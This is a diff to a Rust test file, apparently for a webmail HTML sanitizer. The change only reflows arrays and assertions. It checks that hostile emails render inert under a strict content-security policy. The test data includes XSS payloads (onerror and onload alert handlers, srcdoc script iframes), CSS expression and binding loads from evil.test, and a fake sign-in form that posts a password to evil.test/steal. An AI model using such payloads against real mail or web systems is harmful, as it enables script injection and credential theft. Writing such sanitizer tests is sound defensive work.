@@ -18,20 +18,42 @@ const CASES: &[(&str, &str, &[&str])] = &[
         "event handlers",
         "<img src=x onerror=\"alert(1)\"><p onclick=alert(2) onmouseover='alert(3)'>Hi</p>\
          <body onload=alert(4)><svg onload=alert(5)></svg>",
-        &["onerror", "onclick", "onmouseover", "onload", "alert", "<svg"],
+        &[
+            "onerror",
+            "onclick",
+            "onmouseover",
+            "onload",
+            "alert",
+            "<svg",
+        ],
     ),
     (
         "iframes",
         "<iframe src=\"https://evil.test/\"></iframe><iframe srcdoc=\"<script>alert(1)</script>\">\
          </iframe><frameset><frame src=https://evil.test/></frameset><object data=x></object><embed src=x>",
-        &["<iframe", "srcdoc", "<frame", "<object", "<embed", "evil.test"],
+        &[
+            "<iframe",
+            "srcdoc",
+            "<frame",
+            "<object",
+            "<embed",
+            "evil.test",
+        ],
     ),
     (
         "forms",
         "<form action=\"https://evil.test/steal\" method=post><input type=password name=p>\
          <button formaction=https://evil.test/>Sign in</button><select><option>x</select>\
          <textarea>t</textarea></form>",
-        &["<form", "<input", "<button", "formaction", "<select", "<textarea", "evil.test"],
+        &[
+            "<form",
+            "<input",
+            "<button",
+            "formaction",
+            "<select",
+            "<textarea",
+            "evil.test",
+        ],
     ),
     (
         "CSS expressions and loads",
@@ -40,7 +62,15 @@ const CASES: &[(&str, &str, &[&str])] = &[
          <div style=\"background:url(https://evil.test/b)\">b</div>\
          <div style=\"behavior:url(x.htc);-moz-binding:url(https://evil.test/x.xml)\">c</div>\
          <link rel=stylesheet href=https://evil.test/l.css>",
-        &["<style", "expression", "url(", "behavior", "binding", "<link", "evil.test"],
+        &[
+            "<style",
+            "expression",
+            "url(",
+            "behavior",
+            "binding",
+            "<link",
+            "evil.test",
+        ],
     ),
     (
         "remote images",
@@ -82,7 +112,9 @@ async fn each_hostile_mail_renders_inert() {
         assert_eq!(body.status, StatusCode::OK, "{what}");
         let csp = body.header("content-security-policy");
         assert!(
-            csp.contains("default-src 'none'") && csp.contains("sandbox") && !csp.contains("script"),
+            csp.contains("default-src 'none'")
+                && csp.contains("sandbox")
+                && !csp.contains("script"),
             "{what}: {csp}"
         );
         let mail = &body.body[body.body.find("<body>").unwrap()..];
@@ -94,9 +126,18 @@ async fn each_hostile_mail_renders_inert() {
             );
         }
         // Asking for remote images lets in images only, never scripts or frames.
-        let remote = app.get(&format!("{url}/body?remote=1"), Some(&cookie)).await;
+        let remote = app
+            .get(&format!("{url}/body?remote=1"), Some(&cookie))
+            .await;
         let lower = remote.body.to_ascii_lowercase();
-        for bad in ["<script", "<iframe", "onerror", "javascript:", "expression", "<form"] {
+        for bad in [
+            "<script",
+            "<iframe",
+            "onerror",
+            "javascript:",
+            "expression",
+            "<form",
+        ] {
             assert!(!lower.contains(bad), "{what} with remote images: {bad}");
         }
     }
